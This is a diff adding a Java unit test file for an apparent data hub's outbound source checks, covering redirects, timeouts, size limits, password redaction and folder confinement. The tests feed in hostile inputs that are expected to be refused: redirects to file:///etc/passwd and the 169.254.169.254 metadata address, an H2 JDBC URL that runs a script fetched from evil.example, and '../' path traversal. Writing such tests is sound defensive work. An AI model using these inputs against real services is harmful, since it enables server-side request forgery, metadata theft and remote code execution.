@@ -1,0 +1,325 @@
+package io.tongban.hub.outbound;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.catchThrowableOfType;
+
+import com.sun.net.httpserver.HttpExchange;
+import com.sun.net.httpserver.HttpServer;
+import io.tongban.hub.Problem;
+import io.tongban.hub.ProblemException;
+import io.tongban.hub.Sources;
+import io.tongban.hub.test.TestHub;
+import java.io.IOException;
+import java.io.InputStream;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.SQLException;
+import java.util.Map;
+import java.util.UUID;
+import java.util.concurrent.CountDownLatch;
+import java.util.concurrent.Executors;
+import javax.sql.DataSource;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+class SourcesTest {
+  private static final String DEPARTMENT =
+      """
+      apiVersion: tongban.io/v1
+      kind: Department
+      metadata: {name: agency}
+      spec: {}
+      ---
+      """;
+  private final CountDownLatch never = new CountDownLatch(1);
+  private TestHub hub;
+  private Sources sources;
+  private HttpServer server;
+
+  @BeforeEach
+  void open() throws IOException {
+    hub = TestHub.onH2();
+    sources = hub.get(Sources.class);
+    server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+    server.setExecutor(Executors.newCachedThreadPool());
+    server.start();
+  }
+
+  @AfterEach
+  void close() {
+    never.countDown();
+    server.stop(0);
+    hub.close();
+  }
+
+  private void source(String how) {
+    hub.apply(
+        DEPARTMENT
+            + """
+            apiVersion: tongban.io/v1
+            kind: Source
+            metadata: {name: it}
+            spec:
+              department: agency
+              %s
+            """
+                .formatted(how));
+  }
+
+  private void web(String further) {
+    source(
+        "http: {url: \"http://127.0.0.1:%d/base\"%s}"
+            .formatted(server.getAddress().getPort(), further));
+  }
+
+  private void answer(String path, String text) {
+    server.createContext(path, exchange -> send(exchange, 200, text));
+  }
+
+  private static void send(HttpExchange exchange, int status, String text) throws IOException {
+    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
+    exchange.sendResponseHeaders(status, 0);
+    exchange.getResponseBody().write(bytes);
+    exchange.close();
+  }
+
+  private void redirect(String path, String to) {
+    server.createContext(
+        path,
+        exchange -> {
+          exchange.getResponseHeaders().add("Location", to);
+          send(exchange, 302, "");
+        });
+  }
+
+  private String get(String path) throws IOException {
+    try (InputStream in = sources.get("it", path, 1000)) {
+      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
+    }
+  }
+
+  private Problem refused(String path) {
+    return catchThrowableOfType(ProblemException.class, () -> get(path)).problem();
+  }
+
+  @Test
+  void readsBelowTheSourcesUrl() throws IOException {
+    web(", privateNetwork: true");
+    answer("/base/audits.csv", "a,b");
+    assertThat(get("audits.csv")).isEqualTo("a,b");
+    assertThat(get("/audits.csv?x=1")).isEqualTo("a,b");
+  }
+
+  @Test
+  void fillsInVariables() throws IOException {
+    TestHub.variables(Map.of("PORT", Integer.toString(server.getAddress().getPort())));
+    source("http: {url: \"http://127.0.0.1:${PORT}/x\", privateNetwork: true}");
+    answer("/x", "found");
+    assertThat(get("")).isEqualTo("found");
+  }
+
+  @Test
+  void anUnsetVariableIsNamed() {
+    source("http: {url: \"${NOT_SET}\"}");
+    Problem problem = refused("");
+    assertThat(problem.code()).isEqualTo("definition-invalid");
+    assertThat(problem.detail()).contains("TONGBAN_VAR_NOT_SET");
+  }
+
+  @Test
+  void refusesItsOwnMachineUnlessTheSourceAllowsIt() {
+    web("");
+    assertThat(refused("").code()).isEqualTo("outbound-refused");
+  }
+
+  @Test
+  void refusesAPathThatLeavesTheHost() {
+    source("http: {url: \"http://127.0.0.1\", privateNetwork: true}");
+    assertThat(refused("?@evil.example/").code()).isNotEqualTo("outbound-refused");
+    assertThat(refused("/\u0000").code()).isEqualTo("outbound-refused");
+  }
+
+  @Test
+  void followsRedirectsWithinItsHosts() throws IOException {
+    web(", privateNetwork: true");
+    redirect("/base/old", "/base/new");
+    answer("/base/new", "moved");
+    assertThat(get("old")).isEqualTo("moved");
+  }
+
+  @Test
+  void refusesRedirectsToOtherHostsSchemesAndWithoutEnd() {
+    web(", privateNetwork: true");
+    redirect("/base/away", "http://metadata.example/");
+    redirect("/base/file", "file:///etc/passwd");
+    redirect("/base/round", "/base/round");
+    assertThat(refused("away").detail()).contains("allowedHosts");
+    assertThat(refused("file").detail()).contains("only http and https");
+    assertThat(refused("round").detail()).contains("redirects");
+  }
+
+  @Test
+  void judgesTheAddressOfEveryRedirect() {
+    web(", privateNetwork: true, allowedHosts: [\"169.254.169.254\"]");
+    redirect("/base/meta", "http://169.254.169.254/latest/meta-data");
+    assertThat(refused("meta").detail()).contains("link-local");
+  }
+
+  @Test
+  void refusesAnAnswerThatIsTooLong() {
+    web(", privateNetwork: true");
+    answer("/base/long", "x".repeat(1001));
+    assertThat(refused("long").code()).isEqualTo("source-answer-too-large");
+  }
+
+  @Test
+  void tellsTheStatusOfAnotherAnswer() {
+    web(", privateNetwork: true");
+    server.createContext("/base/gone", exchange -> send(exchange, 410, "secret page"));
+    Problem problem = refused("gone");
+    assertThat(problem.code()).isEqualTo("source-unreachable");
+    assertThat(problem.detail()).contains("410").doesNotContain("secret");
+  }
+
+  @Test
+  void cutsOffASourceThatDrips() {
+    web(", privateNetwork: true, timeoutSeconds: 1");
+    server.createContext(
+        "/base/drip",
+        exchange -> {
+          exchange.sendResponseHeaders(200, 0);
+          exchange.getResponseBody().write('x');
+          exchange.getResponseBody().flush();
+          hold();
+        });
+    assertThat(refused("drip").detail()).contains("longer than 1 seconds");
+  }
+
+  private void hold() throws IOException {
+    try {
+      never.await();
+    } catch (InterruptedException e) {
+      Thread.currentThread().interrupt();
+      throw new IOException(e);
+    }
+  }
+
+  @Test
+  void aSourceThatIsAwayIsNamed() {
+    server.stop(0);
+    web(", privateNetwork: true");
+    Problem problem = refused("");
+    assertThat(problem.code()).isEqualTo("source-unreachable");
+    assertThat(problem.detail()).contains("\"it\"");
+  }
+
+  @Test
+  void queriesADatabaseAndFollowsItsDefinition() throws SQLException {
+    String first = database("first");
+    String second = database("second");
+    source("jdbc: {url: \"%s\", user: sa}".formatted(first));
+    DataSource kept = sources.jdbc("it");
+    assertThat(value(kept)).isEqualTo("first");
+    assertThat(sources.product("it")).isEqualTo("h2");
+    source("jdbc: {url: \"%s\", user: sa}".formatted(second));
+    assertThat(value(kept)).isEqualTo("second");
+  }
+
+  private static String database(String value) throws SQLException {
+    String url = "jdbc:h2:mem:" + UUID.randomUUID() + ";DB_CLOSE_DELAY=-1";
+    try (Connection connection = DriverManager.getConnection(url, "sa", "")) {
+      connection.createStatement().execute("CREATE TABLE t AS SELECT '" + value + "' AS x");
+    }
+    return url;
+  }
+
+  private static String value(DataSource source) throws SQLException {
+    try (var connection = source.getConnection();
+        var statement = connection.createStatement();
+        var rows = statement.executeQuery("SELECT x FROM t")) {
+      rows.next();
+      return rows.getString(1);
+    }
+  }
+
+  @Test
+  void aDatabaseThatIsAwayIsNamedWithoutItsPassword() {
+    TestHub.variables(Map.of("SECRET", "opensesame"));
+    source(
+        "jdbc: {url: \"jdbc:postgresql://127.0.0.1:1/x\", user: reader, password: \"${SECRET}\","
+            + " timeoutSeconds: 2}");
+    Problem problem =
+        catchThrowableOfType(ProblemException.class, () -> sources.jdbc("it").getConnection())
+            .problem();
+    assertThat(problem.code()).isEqualTo("source-unreachable");
+    assertThat(problem.detail()).contains("\"it\"").doesNotContain("opensesame");
+  }
+
+  @Test
+  void aPostgresSourceIsReadOnlyAndHasADeadline() throws SQLException {
+    source(
+        "jdbc: {url: \"%s\", user: postgres, timeoutSeconds: 7}".formatted(TestHub.postgresUrl()));
+    try (var connection = sources.jdbc("it").getConnection();
+        var statement = connection.createStatement()) {
+      try (var rows = statement.executeQuery("SHOW statement_timeout")) {
+        rows.next();
+        assertThat(rows.getString(1)).isEqualTo("7s");
+      }
+      SQLException refused =
+          catchThrowableOfType(
+              SQLException.class, () -> statement.execute("CREATE TABLE x (y INTEGER)"));
+      assertThat(refused.getSQLState()).isEqualTo("25006");
+    }
+  }
+
+  @Test
+  void refusesAUrlThatRunsScripts() {
+    source("jdbc: {url: \"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example'\"}");
+    Problem problem =
+        catchThrowableOfType(ProblemException.class, () -> sources.jdbc("it").getConnection())
+            .problem();
+    assertThat(problem.code()).isEqualTo("outbound-refused");
+  }
+
+  @Test
+  void anUnknownSourceIsNamedWithItsNeighbour() {
+    web("");
+    Problem problem =
+        catchThrowableOfType(ProblemException.class, () -> sources.jdbc("itt")).problem();
+    assertThat(problem.code()).isEqualTo("definition-unknown");
+    assertThat(problem.detail()).contains("did you mean \"it\"?");
+  }
+
+  @Test
+  void makesAFolderBelowTheDataDirectory() {
+    source("file: {directory: drop/premises}");
+    Path folder = sources.directory("it");
+    assertThat(folder).isDirectory().startsWith(hub.settings().dataDirectory());
+  }
+
+  @Test
+  void refusesFoldersElsewhere() throws IOException {
+    TestHub.variables(Map.of("UP", "../outside"));
+    source("file: {directory: \"${UP}\"}");
+    assertThat(folderRefused()).contains("does not lie below");
+    source("file: {directory: keys}");
+    assertThat(folderRefused()).contains("keys");
+    Files.createSymbolicLink(
+        hub.settings().dataDirectory().resolve("link"), Files.createTempDirectory("elsewhere"));
+    source("file: {directory: link}");
+    assertThat(folderRefused()).contains("by a link");
+  }
+
+  private String folderRefused() {
+    Problem problem =
+        catchThrowableOfType(ProblemException.class, () -> sources.directory("it")).problem();
+    assertThat(problem.code()).isEqualTo("outbound-refused");
+    return problem.detail();
+  }
+}
